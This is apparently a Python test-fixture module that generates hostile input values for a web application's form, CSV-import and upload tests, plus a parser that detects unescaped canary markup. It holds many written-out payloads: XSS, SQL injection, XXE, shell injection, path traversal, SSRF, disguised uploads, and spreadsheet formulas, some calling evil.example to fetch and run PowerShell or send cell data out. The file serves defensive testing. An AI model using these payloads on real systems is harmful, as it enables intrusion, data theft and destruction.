"""A deterministic corpus of hostile input values (issue 9, point 4), for the form, import and
upload tests (`web/tests/test_hostile_input.py`) and anyone else who needs bad input.

`VALUES` is built combinatorially from small families of payloads (markup and script, SQL, NUL
and other control characters, lone surrogates, bidi and zero-width marks, 1 MB strings, bad
dates and numbers, emoji, overlong and otherwise invalid UTF-8, spreadsheet formulas, path
traversal, format strings …) and a few wrappings (a plausible prefix, quotes, a bidi mark in
front, doubled): the same list, in the same order, on every run.

A value is text (`str`, possibly holding lone surrogates that no UTF-8 encoder accepts) or raw
bytes (`bytes`: overlong or invalid UTF-8, Latin-1, UTF-16). `Hostile.wire()` gives the bytes
a client puts on the wire: UTF-8, with lone surrogates written as the invalid three-byte
sequences a careless client sends ("surrogatepass").

Canaries: every markup payload calls or names `KANARIE`. `unescaped_canaries(html, sent)`
tokenises an HTML answer as a browser would and reports every place where the canary is live
(an event handler, a script URL, a `style` or `srcdoc`, `<base>`/`<meta>`, the text of a script
or style element), plus the fragments of `sent.danger` found verbatim; the canary as escaped
text or inside an ordinary attribute value is harmless and not reported.

`csv_files(header, good_row)` gives whole files for a CSV import: wrong encodings (UTF-16,
UTF-32, EBCDIC, Shift-JIS, invalid bytes), binary data, broken quoting, NUL bytes, oversized
lines and files, and the good row with one cell replaced by a hostile value; `uploads()` gives
(label, file name, content, type accepted) for document uploads: traversal, bidi and markup in
names, disguised types, empty and truncated files.
"""

from dataclasses import dataclass
from html.parser import HTMLParser

CANARY = "KANARIE"
MEGABYTE = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """One hostile value: `name` says what it is ("markup/script-tag+quote"), `family` groups
    it, `value` is what is sent (text or raw bytes), `danger` the fragments that must never
    be echoed unescaped into HTML."""

    name: str
    family: str
    value: str | bytes
    danger: tuple[str, ...] = ()

    def wire(self) -> bytes:
        if isinstance(self.value, bytes):
            return self.value
        return self.value.encode("utf-8", "surrogatepass")

    @property
    def big(self) -> bool:
        return len(self.value) > 10_000

    def __repr__(self) -> str:
        return f"Hostile({self.name!r})"


# --- the families -----------------------------------------------------------------------------

# (name, payload, dangerous fragments). The fragments are what a browser would run or parse as
# markup if the answer carried them verbatim.
MARKUP = [
    ("script-tag", f"<script>{CANARY}()</script>", (f"<script>{CANARY}",)),
    ("script-src", f'<script src="//evil.example/{CANARY}.js"></script>', (f'<script src="//evil.example/{CANARY}',)),
    ("img-onerror", f"<img src=x onerror={CANARY}()>", (f"<img src=x onerror={CANARY}",)),
    ("svg-onload", f"<svg/onload={CANARY}()>", (f"<svg/onload={CANARY}",)),
    ("body-onload", f"<body onload={CANARY}()>", (f"<body onload={CANARY}",)),
    ("iframe-srcdoc", f'<iframe srcdoc="<script>{CANARY}()</script>"></iframe>', ("<iframe srcdoc=",)),
    ("iframe-js", f"<iframe src=javascript:{CANARY}()>", (f"<iframe src=javascript:{CANARY}",)),
    ("a-href-js", f'<a href="javascript:{CANARY}()">klick</a>', (f'<a href="javascript:{CANARY}',)),
    ("details-ontoggle", f"<details open ontoggle={CANARY}()>", (f"<details open ontoggle={CANARY}",)),
    ("input-autofocus", f"<input autofocus onfocus={CANARY}()>", (f"<input autofocus onfocus={CANARY}",)),
    ("math-xlink", f'<math><mtext><a xlink:href="javascript:{CANARY}()">x</a></mtext></math>',
     (f'xlink:href="javascript:{CANARY}',)),
    ("style-tag", f"<style>body{{background:url(//evil.example/{CANARY})}}</style>", ("<style>body{background",)),
    ("style-expression", f'<div style="width:expression({CANARY}())">', (f'<div style="width:expression({CANARY}',)),
    ("object-data", f'<object data="javascript:{CANARY}()">', (f'<object data="javascript:{CANARY}',)),
    ("embed", f'<embed src="data:text/html,<script>{CANARY}()</script>">', ('<embed src="data:text/html',)),
    ("meta-refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{CANARY}()">', ('<meta http-equiv="refresh"',)),
    ("base-href", f'<base href="//evil.example/{CANARY}/">', ('<base href="//evil.example',)),
    ("form-action", f'<form action="//evil.example/{CANARY}"><button>OK</button></form>', ('<form action="//evil.example',)),
    ("template-breakout", f"</textarea></title></style></script><script>{CANARY}()</script>", (f"<script>{CANARY}",)),
    ("comment-breakout", f"--><script>{CANARY}()</script><!--", (f"<script>{CANARY}",)),
    ("cdata", f"<![CDATA[<script>{CANARY}()</script>]]>", (f"<script>{CANARY}",)),
    ("mixed-case", f"<ScRiPt>{CANARY}()</sCrIpT>", (f"<ScRiPt>{CANARY}",)),
    ("nested", f"<scr<script>ipt>{CANARY}()</scr</script>ipt>", (f"ipt>{CANARY}",)),
    ("null-in-tag", f"<scr\x00ipt>{CANARY}()</script>", (f"<scr\x00ipt>{CANARY}",)),
    ("unicode-escape", f"\\u003cscript\\u003e{CANARY}()\\u003c/script\\u003e", ()),
    ("pre-escaped", f"&lt;script&gt;{CANARY}()&lt;/script&gt;", ()),
    ("js-url", f"javascript:{CANARY}()", (f'href="javascript:{CANARY}', f'src="javascript:{CANARY}',
                                         f'action="javascript:{CANARY}')),
    ("data-url", f"data:text/html;base64,PHNjcmlwdD5LQU5BUklFKCk8L3NjcmlwdD4=#{CANARY}",
     (f'href="data:text/html;base64,PHNjcmlwdD5LQU5BUklFKCk8L3NjcmlwdD4=#{CANARY}',)),
    ("vbscript-url", f"vbscript:{CANARY}()", (f'href="vbscript:{CANARY}',)),
    ("dq-attribute", f'" autofocus onfocus="{CANARY}()', (f'" autofocus onfocus="{CANARY}',)),
    ("sq-attribute", f"' autofocus onfocus='{CANARY}()", (f"' autofocus onfocus='{CANARY}",)),
    ("unquoted-attribute", f"x onmouseover={CANARY}() ", ()),  # harmless unless an attribute is unquoted
    ("dq-tag-breakout", f'"><script>{CANARY}()</script>', (f"<script>{CANARY}",)),
    ("sq-tag-breakout", f"'><img src=x onerror={CANARY}()>", (f"<img src=x onerror={CANARY}",)),
    ("js-string-breakout", f"';{CANARY}();//", ()),
    ("js-dq-string-breakout", f'";{CANARY}();//', ()),
    ("template-literal", f"${{{CANARY}()}}", ()),
    ("django-template", f"{{{{ {CANARY} }}}}{{% debug %}}", ()),
    ("jinja-ssti", f"{{{{ {CANARY}.__class__.__mro__ }}}}", ()),
    ("angular", f"{{{{constructor.constructor('{CANARY}()')()}}}}", ()),
    ("markdown-link", f"[klick](javascript:{CANARY}())", (f'href="javascript:{CANARY}',)),
    ("xxe", f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY {CANARY} SYSTEM "file:///etc/passwd">]><r>&{CANARY};</r>',
     (f"<!ENTITY {CANARY}",)),
    ("svg-script", f"<svg><script>{CANARY}()</script></svg>", (f"<script>{CANARY}",)),
    ("noscript-breakout", f'<noscript><p title="</noscript><img src=x onerror={CANARY}()>">',
     (f"<img src=x onerror={CANARY}",)),
    ("entity-bypass", f"<img src=x onerror=&#x{ord('K'):x};ANARIE()>", ("<img src=x onerror=&#x",)),
    ("css-injection", f"}}</style><script>{CANARY}()</script>", (f"<script>{CANARY}",)),
    ("header-crlf", f"x\r\nSet-Cookie: {CANARY}=1\r\n\r\n<script>{CANARY}()</script>",
     (f"<script>{CANARY}",)),
]

SQL = [
    ("quote", "'"), ("double-quote", '"'), ("or-true", "' OR '1'='1"), ("or-true-comment", "' OR 1=1 --"),
    ("dq-or-true", '" OR ""="'), ("drop-table", "'; DROP TABLE people_person; --"),
    ("union", "' UNION SELECT username, password FROM organisations_staffuser --"),
    ("stacked", "1; DELETE FROM audit_accessevent"), ("sleep-pg", "1' AND pg_sleep(0)::text='"),
    ("sqlite-master", "' UNION SELECT sql FROM sqlite_master --"), ("comment", "admin'/*"),
    ("like-wildcards", "%_%"), ("like-all", "%"), ("backslash", "\\"), ("backslash-quote", "\\'"),
    ("hex", "0x27204f5220273127"), ("semicolon", ";"), ("null-word", "NULL"), ("boolean", "true"),
    ("json", '{"$gt": ""}'), ("array-param", "a[]=1&a[]=2"),
]

CONTROL = [
    ("nul", "\x00"), ("nul-inside", "Am\x00ina"), ("nul-tail", "Haddad\x00.pdf"), ("percent-nul", "%00"),
    ("bell-escape", "\x07\x1b[31mrot\x1b[0m"), ("del", "\x7f"), ("backspace", "abc\x08\x08\x08xyz"),
    ("crlf", "Zeile 1\r\nZeile 2"), ("cr-only", "Zeile 1\rZeile 2"), ("vertical-tab", "a\x0bb\x0cc"),
    ("nel", "a\x85b"), ("line-separator", "a\u2028b\u2029c"), ("tab", "\tA\tB\t"),
    ("all-c0", "".join(chr(c) for c in range(32))), ("c1", "".join(chr(c) for c in range(0x80, 0xa0))),
    ("whitespace-only", " \t \u00a0\u3000 "), ("empty", ""), ("replacement-char", "\ufffd\ufffd"),
    ("noncharacters", "\ufffe\uffff\U0010ffff"), ("private-use", "\ue000\U000f0000"),
]

SURROGATES = [
    ("high", "\ud800"), ("low", "\udfff"), ("inside", "Am\udc80ina"), ("reversed-pair", "\udc00\ud800"),
    ("many", "\ud83d" * 50),
]

BIDI = [
    ("rlo", "\u202e"), ("rlo-filename", "Rechnung\u202efdp.exe"), ("lro", "\u202dA\u202c"),
    ("rli-pdi", "\u2067Amina\u2069"), ("lri-fsi", "\u2066\u2068x"), ("rlm-lrm", "\u200fA\u200eB"),
    ("alm", "\u061c"), ("rle-pop", "\u202bأمينة\u202c"), ("unclosed-isolates", "\u2067" * 20),
    ("arabic-name", "أمينة حداد"), ("hebrew-mixed", "שלום abc 123"),
]

ZERO_WIDTH = [
    ("zwsp", "Ami\u200bna"), ("zwnj-zwj", "\u200c\u200d"), ("bom-inside", "Ha\ufeffddad"), ("word-joiner", "\u2060"),
    ("soft-hyphen", "Am\u00adina"), ("only-zwsp", "\u200b" * 10), ("invisible-times", "\u2062\u2063\u2064"),
    ("combining-flood", "A" + "\u0301" * 500), ("zalgo", "Z\u0336\u0351\u0364a\u0335\u0360l\u0337g\u0338o"),
    ("homoglyph", "\u0410mina"), ("fullwidth", "\uff21\uff4d\uff49\uff4e\uff41"),
    ("ligature", "\ufb01le"), ("kelvin", "\u212a"), ("dotless-i", "ı\u0130"), ("sharp-s", "Straße STRASSE ẞ"),
]

LONG = [
    ("1mb-ascii", "A" * MEGABYTE), ("1mb-markup", (f"<script>{CANARY}()</script>" * (MEGABYTE // 26 + 1))[:MEGABYTE]),
    ("1mb-umlaut", "ä" * (MEGABYTE // 2)), ("1mb-emoji", "\U0001f600" * (MEGABYTE // 4)),
    ("1mb-newlines", "\n" * MEGABYTE), ("64k-word", "x" * 65_536), ("long-word-300", "W" * 300),
    ("long-email", "a" * 250 + "@example.org"), ("256-chars", "Z" * 256), ("4097-digits", "9" * 4097),
]
LONG_DANGER = {"1mb-markup": (f"<script>{CANARY}",)}

DATES = [
    "2024-02-30", "31.02.2024", "2023-02-29", "0000-00-00", "00.00.0000", "9999-12-31", "10000-01-01",
    "-0001-01-01", "2024-13-01", "2024-00-10", "1899-12-31", "2200-01-01", "1.1.1", "2024-1-1T25:61:61",
    "2024-01-01T00:00:00+99:00", "1970-01-01T00:00:00Z", "today", "morgen", "01/02/03", "2024/02/29",
    "29.2.2024 25:00", "\u0662\u0660\u0662\u0664-\u0660\u0661-\u0660\u0661", "\uff12\uff10\uff12\uff14-01-01",
    "2024-W53", "2024-366", "1e4-01-01", "31.12.-1", "24:00", "23:60", "-1:00", "12:30:99", "99:99",
    "2024-02-29T24:00", "1712345678", "NaT",
]

NUMBERS = [
    "-1", "0", "-0", "1e309", "-1e309", "NaN", "nan", "Infinity", "-Infinity", "1.5", "1,5", "0x10", "1_000",
    "+1", " 1 ", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808",
    "-9223372036854775809", "18446744073709551616", "1e18", "0.0000001", "\u0661\u0662\u0663", "\u00bd",
    "\u216b", "\u22121", "1e3", "١٬٠٠٠", "00000000000000000001", "1/0", "--1", "1-1",
]

EMOJI = [
    ("smile", "\U0001f600"), ("family-zwj", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"),
    ("flag", "\U0001f1e9\U0001f1ea"), ("skin-tone", "\U0001f44d\U0001f3fd"),
    ("math-bold", "\U0001d573\U0001d58a\U0001d591\U0001d591\U0001d594"), ("name-with-emoji", "Amina \U0001f31f Haddad"),
    ("keycap", "1\ufe0f\u20e3"), ("tag-sequence", "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"),
    ("pile-of-poo-domain", "a@\U0001f4a9.example"), ("cjk", "\u963f\u7c73\u5a1c"),
]

BAD_BYTES = [
    ("overlong-lt", b"\xc0\xbcscript\xc0\xbe" + CANARY.encode() + b"()"),
    ("overlong-nul", b"\xc0\x80"), ("overlong-slash", b"..\xc0\xaf..\xc0\xafetc\xc0\xafpasswd"),
    ("overlong-3byte", b"\xe0\x80\xaf"), ("overlong-4byte", b"\xf0\x80\x80\xaf"),
    ("invalid-ff-fe", b"\xff\xfe"), ("lone-continuation", b"\x80\x81\x82"), ("truncated", b"Euro \xe2\x82"),
    ("latin1", b"M\xfcller Stra\xdfe"), ("cp1252-quotes", b"\x93Zitat\x94 \x80"),
    ("utf16-le", "Amina".encode("utf-16-le")), ("utf16-bom", "Amina".encode("utf-16")),
    ("cesu-surrogates", b"\xed\xa0\xbd\xed\xb8\x80"), ("beyond-unicode", b"\xf4\x90\x80\x80"),
    ("five-byte", b"\xf8\x88\x80\x80\x80"),
]

FORMULAS = [
    "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget evil.example/x)'!A0", '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
    "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1", '=DDE("cmd";"/C calc";"!A0")',
    "=IMPORTXML(CONCAT(\"http://evil.example/?\";A1);\"//a\")", "'=1+1", "\uff1d1+1", "=\u00a01+1",
]

PATHS = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd", "..%c0%af..%c0%afetc/passwd", "file:///etc/passwd", "\\\\evil.example\\share\\x",
    "C:\\boot.ini", "/dev/zero", "/proc/self/environ", "~/.ssh/id_rsa", "..", ".", "/", "NUL", "CON.txt",
    "a/../../b", "%252e%252e%252f", "//evil.example/x", "http://169.254.169.254/latest/meta-data/",
]

MISC = [
    ("format-percent", "%s%s%s%n%x%d"), ("format-dict", "%(password)s %(secret_key)s"), ("format-braces", "{0}{1}{__class__}"),
    ("ldap", "*)(uid=*))(|(uid=*"), ("xpath", "' or name()='x"), ("nosql", "'; return true; var x='"),
    ("shell", "$(touch /tmp/lotse-pwned); `id`; | cat /etc/passwd"), ("none-word", "None"),
    ("undefined", "undefined"), ("json-object", '{"id": 1, "__proto__": {"admin": true}}'),
    ("url-encoded", "%3Cscript%3E" + CANARY + "%28%29%3C%2Fscript%3E"), ("double-url", "%253Cscript%253E"),
    ("email-quoted", '"<script>' + CANARY + '()</script>"@example.org'), ("email-no-domain", "amina@"),
    ("email-ip", "amina@[127.0.0.1]"), ("ssrf-url", "http://127.0.0.1:5432/"), ("idn", "http://xn--80ak6aa92e.example/"),
    ("phone", "+49 (0) 151/123-456-789-0000-1111"), ("ipv6", "::1"), ("negative-id", "-1"),
    ("id-list", "1,2,3"), ("id-with-space", "1 OR 1=1"), ("slug", "../admin/"), ("unicode-slug", "straße-ümlaut"),
    ("html-entity", "&amp;&lt;&gt;&quot;&#39;&#0;&#x110000;"), ("rtl-override-url", "https://example.org/\u202egpj.exe"),
    ("very-nested-json", "[" * 1000 + "]" * 1000),
]

# Prefixes that make a payload look like a plausible value, or break out of a context.
WRAPPERS = [
    ("plain", "", ""), ("name", "Amina ", ""), ("quoted", '"', '"'), ("rlo-prefix", "\u202e", ""),
    ("zwsp-around", "\u200b", "\u200b"), ("doubled", None, None),
]


def _wrap(value: str, wrapper: tuple) -> str:
    name, before, after = wrapper
    if name == "doubled":
        return value + value
    return f"{before}{value}{after}"


def _build() -> list[Hostile]:
    found: list[Hostile] = []

    def add(name: str, family: str, value, danger=()):
        found.append(Hostile(name, family, value, tuple(danger)))

    for name, payload, danger in MARKUP:
        for wrapper in WRAPPERS:
            add(f"markup/{name}+{wrapper[0]}", "markup", _wrap(payload, wrapper), danger)
    for name, payload in SQL:
        for wrapper in WRAPPERS[:3]:
            add(f"sql/{name}+{wrapper[0]}", "sql", _wrap(payload, wrapper))
    for name, payload in CONTROL:
        add(f"control/{name}", "control", payload)
        add(f"control/{name}+name", "control", f"Amina {payload} Haddad")
    for name, payload in SURROGATES:
        add(f"surrogate/{name}", "surrogate", payload)
        add(f"surrogate/{name}+markup", "surrogate", f"{payload}<script>{CANARY}()</script>", (f"<script>{CANARY}",))
    for name, payload in BIDI + ZERO_WIDTH:
        add(f"unicode/{name}", "unicode", payload)
        add(f"unicode/{name}+markup", "unicode", f"{payload}<b onclick={CANARY}()>{payload}</b>",
            (f"<b onclick={CANARY}",))
    for name, payload in LONG:
        add(f"long/{name}", "long", payload, LONG_DANGER.get(name, ()))
    for text in DATES:
        add(f"date/{text!r}", "date", text)
    for text in NUMBERS:
        add(f"number/{text!r}", "number", text)
    for name, payload in EMOJI:
        add(f"emoji/{name}", "emoji", payload)
        add(f"emoji/{name}+markup", "emoji", f"<i onmouseover={CANARY}()>{payload}</i>", (f"<i onmouseover={CANARY}",))
    for name, payload in BAD_BYTES:
        add(f"bytes/{name}", "bytes", payload)
        add(f"bytes/{name}+markup", "bytes", payload + f"<script>{CANARY}()</script>".encode(), (f"<script>{CANARY}",))
    for text in FORMULAS:
        add(f"formula/{text!r}", "formula", text)
        add(f"formula/{text!r}+markup", "formula", f"{text}<script>{CANARY}()</script>", (f"<script>{CANARY}",))
    for text in PATHS:
        add(f"path/{text!r}", "path", text)
    for name, payload in MISC:
        add(f"misc/{name}", "misc", payload)
    names = [h.name for h in found]
    assert len(names) == len(set(names)), "duplicate names in the hostile corpus"
    return found


VALUES: list[Hostile] = _build()
FAMILIES: tuple[str, ...] = tuple(dict.fromkeys(h.family for h in VALUES))


# --- finding unescaped canaries ---------------------------------------------------------------

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcset"}
_SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:")
_MARKUP_AS_TEXT = {"script", "style"}


class _CanaryFinder(HTMLParser):
    """Walks an HTML answer as a browser would tokenise it and notes every place where the
    canary is live: an attribute name, an event handler, a script URL, a `style`, a `srcdoc`,
    a `<base>` or `<meta>`, the text of a script or style element. The canary as escaped text,
    or inside an ordinary attribute value, is harmless and not noted."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._open: list[tuple[str, bool]] = []  # (tag, is a JSON data block)

    def handle_starttag(self, tag, attrs):
        where = f"<{tag}>"
        if CANARY in tag:
            self.found.append(f"tag name {tag[:80]!r}")
        for name, value in attrs:
            value = value or ""
            if CANARY in name:
                self.found.append(f"attribute name {name[:80]!r} in {where}")
            elif CANARY in value:
                lowered = "".join(value.split()).lower()
                if (name.startswith("on") or name in ("style", "srcdoc") or tag in ("base", "meta")
                        or (name in _URL_ATTRIBUTES and lowered.startswith(_SCRIPT_SCHEMES))):
                    self.found.append(f"{name}={value[:80]!r} in {where}")
        if tag in _MARKUP_AS_TEXT:
            kind = dict(attrs).get("type") or ""
            self._open.append((tag, "json" in kind))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag in _MARKUP_AS_TEXT and self._open:
            self._open.pop()

    def handle_endtag(self, tag):
        if tag in _MARKUP_AS_TEXT and self._open:
            self._open.pop()

    def handle_data(self, data):
        if self._open and CANARY in data:
            tag, is_json = self._open[-1]
            if not is_json:
                self.found.append(f"<{tag}> text {data[:80]!r}")


def unescaped_canaries(html: str, sent: "Hostile | None" = None) -> list[str]:
    """The places where a canary is live in an HTML answer (empty: none): found by tokenising
    the answer, plus the dangerous fragments of the value sent, searched verbatim."""
    if CANARY not in html:
        return []
    finder = _CanaryFinder()
    finder.feed(html)
    finder.close()
    found = list(finder.found)
    if sent is not None:
        found += [f"verbatim {fragment[:80]!r}" for fragment in sent.danger if fragment in html]
    return found


# --- whole files ------------------------------------------------------------------------------


def _csv(rows: list[list[str]], delimiter: str = ";") -> str:
    return "\r\n".join(delimiter.join(row) for row in rows) + "\r\n"


def csv_files(header: list[str], good_row: list[str]) -> list[tuple[str, bytes, str]]:
    """(name, file content, declared encoding) of hostile CSV files for an import whose header
    and one good row are given: wrong encodings, binary content, broken structure (the files not named
    "cell-…", each unreadable as a whole or with a broken row), then the good row followed by a
    copy with one cell replaced by a hostile value (markup, formula, control characters,
    surrogates, invalid bytes; dates, numbers and paths in every other column). An import may
    accept a file whose hostile cell is harmless text in that column (a name in markup is still
    a name); it must refuse the rest without writing anything."""
    good = _csv([header, good_row])
    files: list[tuple[str, bytes, str]] = [
        ("utf16-le-bom", good.encode("utf-16"), "utf-8"),
        ("utf16-be", good.encode("utf-16-be"), "utf-8"),
        ("utf32", good.encode("utf-32"), "utf-8"),
        ("ebcdic", good.encode("cp500"), "utf-8"),
        ("shift-jis-declared-utf8", _csv([header, [*good_row[:-1], "\u963f\u7c73\u5a1c\u2603"]]).encode("shift_jis", "replace"), "utf-8"),
        ("latin1-bad-bytes", good.encode("utf-8") + b"\xff\xfe\x00\x81", "utf-8"),
        ("utf8-declared-cp1252-nul", good.encode("utf-8") + b"\x00", "cp1252"),
        ("lone-surrogate-bytes", good.encode("utf-8") + b"\xed\xa0\x80;" * len(header), "utf-8"),
        ("overlong", good.encode("utf-8") + b"\xc0\xbc;" * len(header), "utf-8"),
        ("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n", "utf-8"),
        ("png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "utf-8"),
        ("zip", b"PK\x03\x04" + b"\x00" * 100, "utf-8"),
        ("gzip", b"\x1f\x8b\x08\x00" + b"\x00" * 50, "utf-8"),
        ("empty", b"", "utf-8"),
        ("bom-only", b"\xef\xbb\xbf", "utf-8"),
        ("header-only-then-garbage", good.encode() + b'"unclosed;quote\r\nmore', "utf-8"),
        ("unbalanced-quotes", _csv([header, ['"' + c for c in good_row]]).encode(), "utf-8"),
        ("nul-in-cell", _csv([header, [good_row[0] + "\x00", *good_row[1:]]]).encode(), "utf-8"),
        ("cr-only-lines", good.replace("\r\n", "\r").encode() + b"x\rnot;a;row", "utf-8"),
        ("duplicate-header", _csv([header + header, good_row + good_row, good_row[:1]]).encode(), "utf-8"),
        ("no-header", _csv([good_row, good_row]).encode(), "utf-8"),
        ("wide-row", _csv([header, good_row + ["x"] * 50_000, ["=1+1"] * len(header)]).encode(), "utf-8"),
        ("long-line", _csv([header, good_row, ["A" * (2 * MEGABYTE), *good_row[1:]]]).encode(), "utf-8"),
        ("many-rows", _csv([header] + [good_row] * 20_000 + [["=1+1"] * len(header)]).encode(), "utf-8"),
        ("tab-delimited", _csv([header, good_row, ["=1+1"] * len(header)], "\t").encode(), "utf-8"),
        ("unknown-encoding", good.encode(), "x-klingon"),
    ]
    for index in range(len(header)):
        for hostile in VALUES:
            if hostile.family not in ("markup", "formula", "control", "surrogate", "bytes", "date", "number", "path") \
                    or hostile.big:
                continue
            if index % 2 == 0 and hostile.family in ("date", "number", "path"):
                continue
            if hostile.family == "markup" and not hostile.name.endswith("+plain"):
                continue
            row = list(good_row)
            value = hostile.wire()
            content = (_csv([header, good_row]).encode() + b";".join(
                c.encode() if i != index else b'"' + value.replace(b'"', b'""') + b'"'
                for i, c in enumerate(row)) + b"\r\n")
            files.append((f"cell-{header[index]}/{hostile.name}", content, "utf-8"))
    return files


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde" + b"\x00" * 32
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"

UPLOAD_NAMES = [
    "../../../../etc/passwd.png", "..\\..\\..\\windows\\system32\\x.pdf", "/etc/cron.d/x.pdf", "Rechnung\u202efdp.exe",
    f"<script>{CANARY}()</script>.png", f'"><img src=x onerror={CANARY}()>.pdf', "a\x00b.pdf", "\ud800.png",
    "CON", "x" * 1000 + ".pdf", ".htaccess", "datei.php.png", "datei.PNG ", "\u200b.pdf", "%2e%2e%2fx.pdf",
    "=cmd|' /C calc'!A0.pdf", "\U0001f4a9.pdf", "",
]
UPLOAD_CONTENTS = [
    ("png", PNG, True), ("pdf", PDF, True), ("jpeg", b"\xff\xd8\xff\xe0" + b"\x00" * 64, True),
    ("html-as-png", f"<html><script>{CANARY}()</script></html>".encode(), False),
    ("svg", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CANARY}()"/>'.encode(), False),
    ("html-after-png-magic", PNG[:8] + f"<script>{CANARY}()</script>".encode(), True),
    ("exe", b"MZ\x90\x00" + b"\x00" * 64, False), ("empty", b"", False), ("nul", b"\x00" * 100, False),
    ("zip", b"PK\x03\x04" + b"\x00" * 64, False), ("polyglot-pdf-html", PDF + f"<script>{CANARY}()</script>".encode(), True),
    ("truncated-magic", b"\x89PN", False), ("utf16-text", "Hallo".encode("utf-16"), False),
]


def uploads() -> list[tuple[str, str, bytes, bool]]:
    """(label, file name, content, type accepted by magic bytes) for the document uploads: every
    hostile name with a valid PNG, and every hostile content with a plain name."""
    found = [(f"name/{name!r}", name, PNG, True) for name in UPLOAD_NAMES]
    found += [(f"content/{label}", f"{label}.png", content, ok) for label, content, ok in UPLOAD_CONTENTS]
    return found
